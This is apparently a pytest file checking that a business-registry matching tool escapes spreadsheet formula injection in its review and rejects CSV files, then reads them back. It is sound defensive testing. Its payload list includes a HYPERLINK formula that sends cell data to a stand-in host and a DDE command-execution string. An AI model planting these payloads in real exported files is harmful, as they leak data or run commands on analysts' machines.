"""Formula injection: the review and rejects files analysts open in a spreadsheet (issue 19, defect 1)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

import sourcefiles as sf
from ketenradar.config import Config
from ketenradar.report.safe import needs_quote, neutralise, restore
from ketenradar.resolve import stage as resolve
from ketenradar.resolve.overrides import read_overrides
from ketenradar.sources import stage as ingest
from ketenradar.sources.rejects import rejects_report_path
from ketenradar.stage import StageContext
from ketenradar.store import Store

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+31 AB",
    "-",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=already quoted",
]


def dangerous(cell: str) -> bool:
    """What a spreadsheet would run: the check is independent of the code under test."""
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_is_reversible(payload: str) -> None:
    written = neutralise(payload, reversible=True)
    assert not dangerous(written)
    assert restore(written) == payload
    assert restore(neutralise("plain text", reversible=True)) == "plain text"
    assert needs_quote("=1") and not needs_quote("1=1")


def _ingest_and_resolve(store: Store, files: list[Path]) -> None:
    with store.run("ingest") as run:
        ingest.run(store, Config(), StageContext(run.run_id, quiet=True), files=[str(p) for p in files])
    with store.run("resolve") as run:
        resolve.run(store, Config(), StageContext(run.run_id, quiet=True))


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_review_and_rejects_files_are_neutralised_and_read_back(tmp_path: Path, store_path: Path) -> None:
    registry = sf.write_kvk_jsonl(tmp_path / "kvk.jsonl")
    members = sf.write_csv(
        tmp_path / "leden.csv",
        ["Bedrijfsnaam", "KvK nr", "Postcode", "Plaats"],
        [[p, "", "1234 AB", p] for p in PAYLOADS] + [["Frezerij X", "=cmd|' /C calc'!A0", "", "@SUM(1+1)"]],
    )
    with Store(store_path) as store:
        _ingest_and_resolve(store, [registry, members])
        review_path = store.path.with_name(store.path.stem + "-review.csv")
        rejects_path = rejects_report_path(store)
        names = set(store.df("SELECT name FROM source_records WHERE kind = 'member_list'")["name"])
        rejected = set(store.df("SELECT value FROM rejects")["value"].dropna())
    assert "=cmd|' /C calc'!A0" in rejected
    for path in (review_path, rejects_path):
        rows = _cells(path)
        assert len(rows) > 1
        bad = [c for row in rows for c in row if dangerous(c)]
        assert not bad, f"{path.name} has cells a spreadsheet would run: {bad}"
    # Every name in the review file reads back as the original text.
    review = _cells(review_path)
    col = review[0].index("name")
    assert {restore(r[col]) for r in review[1:]} >= {n for n in names if n in PAYLOADS and n.strip()}
    rej = _cells(rejects_path)
    col = rej[0].index("value")
    assert "=cmd|' /C calc'!A0" in {restore(r[col]) for r in rej[1:]}

    # A reviewer fills in one row and passes the file back: record ids and the no-match marker survive.
    header, *rows = review
    rows[0][header.index("kvk_number")] = "'-"  # "-" (no match) as a spreadsheet would save it, quoted
    rows[1][header.index("kvk_number")] = sf.REGISTRY[0][0]
    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    frame = read_overrides(tmp_path / "filled.csv")
    ids = {restore(r[header.index("record_id")]) for r in rows}
    assert set(frame["record_id"]) <= ids
    first = frame.set_index("record_id").loc[restore(rows[0][header.index("record_id")])]
    assert pd.isna(first["kvk_number"])
    second = frame.set_index("record_id").loc[restore(rows[1][header.index("record_id")])]
    assert second["kvk_number"] == sf.REGISTRY[0][0]
